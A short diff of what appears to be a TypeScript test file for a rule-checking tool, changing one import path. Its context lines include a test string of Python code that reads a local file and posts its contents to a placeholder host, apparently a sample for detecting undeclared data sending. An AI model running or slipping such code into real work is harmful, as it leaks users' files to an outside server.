@@ -1,5 +1,5 @@
 import { setRuleCases } from '../testing/set-cases.ts';
-import { unsaidPowers } from './unsaid-powers.ts';
+import { unsaidPowers } from './listing.ts';
 
 const sends = 'import requests\nrequests.post("https://x.example/in", data=open("a").read())\n';
 
